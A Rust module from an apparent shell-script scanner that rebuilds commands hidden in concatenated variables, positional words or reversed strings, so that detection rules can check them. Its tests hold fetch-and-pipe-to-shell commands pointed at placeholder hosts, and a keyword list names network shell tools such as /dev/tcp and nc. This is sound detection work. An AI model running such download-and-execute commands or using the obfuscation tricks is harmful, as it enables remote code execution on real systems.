//! Shell variables seen through: a script that builds its command from pieces (`t=cu; t=${t}rl`,
//! `h=198.51.100; h=$h.64`, then `$t -fsS "http://$h$p" | ${SHELL:-sh}`) or reverses it
//! (`eval "$(echo "$s" | rev)"`) is read with the pieces put back, the way the shell will run it.
//!
//! Assignments of words the script spells out are tracked in order, line by line; a value built from
//! anything else (a command substitution other than a reversal, arithmetic, a read) makes the variable
//! unknown. A command line that uses a known variable and, expanded, reaches the network, pipes into a
//! shell or is an `eval`, is handed back as a shell payload for the whole rule set. Bounded in lines,
//! variables, value size and renditions.

use super::limits::{MAX_CALL_BYTES, MAX_STRING_BYTES};
use super::Rendition;
use std::collections::HashMap;

/// Lines of one script read for assignments.
const MAX_LINES: usize = 4000;
/// Variables remembered per script.
const MAX_VARIABLES: usize = 256;
/// Expanded lines handed back per script.
const MAX_EXPANDED: usize = 16;

/// What an expanded line must reach to be worth a rescan: the network, a shell, or `eval`.
const WORTH_RESCAN: &[&str] = &[
    "://", "| sh", "|sh", "| bash", "|bash", "eval ", "/dev/tcp", "nc ", "base64", "nslookup",
    "dig ", "python", "node ", "perl ", "chmod", "curl", "wget",
];

/// The expanded command lines of a shell script (`text`), as shell payloads at their lines.
pub(super) fn expanded_lines(text: &str) -> Vec<Rendition> {
    let mut vars: HashMap<String, String> = HashMap::new();
    let mut out = Vec::new();
    let mut offset = 0usize;
    for line in text.split_inclusive('\n').take(MAX_LINES) {
        let start = offset;
        offset += line.len();
        let body = line.trim_end_matches(['\n', '\r']);
        let trimmed = body.trim_start();
        if trimmed.starts_with('#') || trimmed.is_empty() {
            continue;
        }
        let mut rest_commands = Vec::new();
        for part in split_commands(trimmed, false) {
            // `set -- cu rl sh`: the words become `$1`, `$2`, `$3`, in place of any before.
            if let Some(words) = part.strip_prefix("set -- ") {
                vars.retain(|name, _| !name.starts_with(|c: char| c.is_ascii_digit()));
                for (index, word) in words.split_whitespace().take(9).enumerate() {
                    let Some(value) = expand_word(word, &vars) else {
                        break;
                    };
                    if vars.len() < MAX_VARIABLES {
                        vars.insert((index + 1).to_string(), value);
                    }
                }
                continue;
            }
            match assignment(part) {
                Some((name, value)) => {
                    let known = expand_word(value, &vars);
                    match known.filter(|v| v.len() <= MAX_STRING_BYTES) {
                        Some(v) if vars.len() < MAX_VARIABLES || vars.contains_key(name) => {
                            vars.insert(name.to_string(), v);
                        }
                        _ => {
                            vars.remove(name);
                        }
                    }
                }
                None => rest_commands.push(part),
            }
        }
        if out.len() >= MAX_EXPANDED || vars.is_empty() {
            continue;
        }
        for command in rest_commands {
            if !command.contains('$') {
                continue;
            }
            let Some(expanded) = expand_line(command, &vars) else {
                continue;
            };
            let code = expanded
                .strip_prefix("eval ")
                .map(|e| e.trim().trim_matches(['"', '\'']).to_string())
                .unwrap_or(expanded);
            let code = unquote_plain_words(&code);
            if code == command || code.len() > MAX_CALL_BYTES {
                continue;
            }
            if !WORTH_RESCAN.iter().any(|w| code.contains(w)) && !command.starts_with("eval ") {
                continue;
            }
            out.push(Rendition {
                start: start + (body.len() - trimmed.len()),
                end: start + body.len(),
                code,
                payload: true,
                hidden_target: None,
                shell: true,
            });
            if out.len() >= MAX_EXPANDED {
                break;
            }
        }
    }
    out
}

/// `"curl"` as `curl`: double quotes around a word with nothing the shell would treat specially change
/// nothing when it runs, so the rules read the word bare.
fn unquote_plain_words(line: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-".contains(c);
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(open) = rest.find('"') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        match after.find('"') {
            Some(close) if close > 0 && after[..close].chars().all(plain) => {
                out.push_str(&after[..close]);
                rest = &after[close + 1..];
            }
            Some(close) => {
                out.push('"');
                out.push_str(&after[..=close]);
                rest = &after[close + 1..];
            }
            None => {
                out.push_str(&rest[open..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// The commands of one line split at top-level `;` and `&&`, and at `||` when `at_or` (not inside quotes or
/// `$(…)`), each trimmed, empty ones dropped. Shared with the shell flow detector.
pub(crate) fn split_commands(line: &str, at_or: bool) -> Vec<&str> {
    let mut parts = Vec::new();
    let (mut single, mut double, mut paren) = (false, false, 0usize);
    let bytes = line.as_bytes();
    let (mut from, mut i) = (0, 0);
    while i < bytes.len() {
        match bytes[i] {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'(' if !single => paren += 1,
            b')' if !single => paren = paren.saturating_sub(1),
            b';' if !single && !double && paren == 0 => {
                parts.push(line[from..i].trim());
                from = i + 1;
            }
            b'&' | b'|'
                if !single
                    && !double
                    && paren == 0
                    && bytes.get(i + 1) == Some(&bytes[i])
                    && (bytes[i] == b'&' || at_or) =>
            {
                parts.push(line[from..i].trim());
                from = i + 2;
                i += 1;
            }
            _ => {}
        }
        i += 1;
    }
    parts.push(line[from..].trim());
    parts.retain(|p| !p.is_empty());
    parts
}

/// `NAME=value` (optionally after `export`/`local`/`readonly`), one word of value.
fn assignment(command: &str) -> Option<(&str, &str)> {
    let command = ["export ", "local ", "readonly ", "declare "]
        .iter()
        .find_map(|k| command.strip_prefix(k))
        .unwrap_or(command)
        .trim_start();
    let eq = command.find('=')?;
    let name = &command[..eq];
    let valid = !name.is_empty()
        && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    valid.then(|| (name, &command[eq + 1..]))
}

/// The value of one assigned word: quotes removed, known variables put in, a reversal undone. `None`
/// when any part is not known (an unknown variable, another command substitution, a second word).
fn expand_word(word: &str, vars: &HashMap<String, String>) -> Option<String> {
    if let Some(reversed) = reversal(word, vars) {
        return Some(reversed);
    }
    let mut out = String::new();
    let mut chars = word.char_indices().peekable();
    let mut quote: Option<char> = None;
    while let Some((at, c)) = chars.next() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (Some('\''), c) => out.push(c),
            (_, '$') => {
                let (value, used) = variable(&word[at..], vars)?;
                out.push_str(&value);
                for _ in 1..used {
                    chars.next();
                }
            }
            (None, c) if c.is_whitespace() || matches!(c, '`' | '(' | ')' | '|' | '<' | '>') => {
                return None;
            }
            (Some('"'), '`') => return None,
            (_, '\\') => out.push(chars.next()?.1),
            (_, c) => out.push(c),
        }
        if out.len() > MAX_STRING_BYTES {
            return None;
        }
    }
    quote.is_none().then_some(out)
}

/// `$(echo "$s" | rev)`, `$(printf %s "$s" | rev)`, `$(rev <<< "$s")`: the known value reversed.
fn reversal(word: &str, vars: &HashMap<String, String>) -> Option<String> {
    let inner = word
        .trim_matches('"')
        .strip_prefix("$(")?
        .strip_suffix(')')?
        .trim();
    let source = if let Some(rest) = inner.strip_prefix("rev <<<") {
        rest.trim()
    } else {
        let (left, right) = inner.split_once('|')?;
        if right.trim() != "rev" {
            return None;
        }
        let left = left.trim();
        left.strip_prefix("echo ")
            .or_else(|| left.strip_prefix("printf %s "))
            .or_else(|| left.strip_prefix("printf '%s' "))?
            .trim()
    };
    let value = expand_word(source, vars)?;
    Some(value.chars().rev().collect())
}

/// The variable reference at the front of `text` (`$x`, `${x}`, `${x:-default}`): its value and how many
/// characters it took. An unknown variable with a default stands for the default.
fn variable(text: &str, vars: &HashMap<String, String>) -> Option<(String, usize)> {
    let rest = &text[1..];
    if let Some(braced) = rest.strip_prefix('{') {
        let close = braced.find('}')?;
        let inside = &braced[..close];
        let used = close + 3;
        if let Some((name, default)) = inside.split_once(":-") {
            let value = vars
                .get(name)
                .cloned()
                .unwrap_or_else(|| default.to_string());
            return Some((value, used));
        }
        return vars.get(inside).map(|v| (v.clone(), used));
    }
    let len = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(rest.len());
    let name = &rest[..len];
    vars.get(name).map(|v| (v.clone(), len + 1))
}

/// A command line with every known variable put in (unknown ones and substitutions left as written),
/// reversals undone. `None` when nothing was put in.
fn expand_line(line: &str, vars: &HashMap<String, String>) -> Option<String> {
    let mut out = String::new();
    let mut changed = false;
    let mut at = 0;
    let mut single = false;
    while at < line.len() {
        let c = line[at..].chars().next()?;
        if c == '\'' {
            single = !single;
        }
        if c == '$' && !single {
            if line[at..].starts_with("$(") {
                if let Some(close) = line[at..].find(')') {
                    let word = &line[at..at + close + 1];
                    if let Some(reversed) = reversal(word, vars) {
                        out.push_str(&reversed);
                        changed = true;
                        at += close + 1;
                        continue;
                    }
                }
            } else if let Some((value, used)) = variable(&line[at..], vars) {
                out.push_str(&value);
                changed = true;
                at += used;
                continue;
            }
        }
        out.push(c);
        at += c.len_utf8();
        if out.len() > MAX_CALL_BYTES {
            return None;
        }
    }
    changed.then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(text: &str) -> Vec<String> {
        expanded_lines(text).into_iter().map(|r| r.code).collect()
    }

    #[test]
    fn commands_built_from_variables_read_as_run() {
        let script = "h=198.51.100\nh=$h.64\nt=cu; t=${t}rl\np=/d\n$t -fsS \"http://$h$p\" | ${SHELL:-sh}\necho done\n";
        assert_eq!(codes(script), ["curl -fsS http://198.51.100.64/d | sh"]);
        let reversed = "s='hs | 9/lmth.x//:ptth Ls- lruc'\neval \"$(echo \"$s\" | rev)\"\n";
        assert_eq!(codes(reversed), ["curl -sL http://x.html/9 | sh"]);
    }

    #[test]
    fn positional_words_set_in_the_script_are_read() {
        let script = "set -- cu rl sh\n\"$1$2\" -fsSL https://t.example.invalid/t.sh | \"$3\"\n";
        assert_eq!(
            codes(script),
            ["curl -fsSL https://t.example.invalid/t.sh | sh"]
        );
        // A greeting built from positional words reaches nothing.
        assert!(codes("set -- hello world\necho \"$1, $2\"\n").is_empty());
    }

    #[test]
    fn plain_variables_and_unknown_values_stay_quiet() {
        // Nothing reaches the network or a shell.
        assert!(codes("dir=build\nmkdir -p \"$dir\"\ncp a.txt $dir/\n").is_empty());
        // The value comes from a command: unknown.
        assert!(codes("u=$(cat url.txt)\ncurl \"$u\" | sh\n").is_empty());
        // A variable rebound to something unknown is forgotten.
        assert!(codes("u=https://a.invalid/x\nu=$1\ncurl \"$u\"\n").is_empty());
    }
}
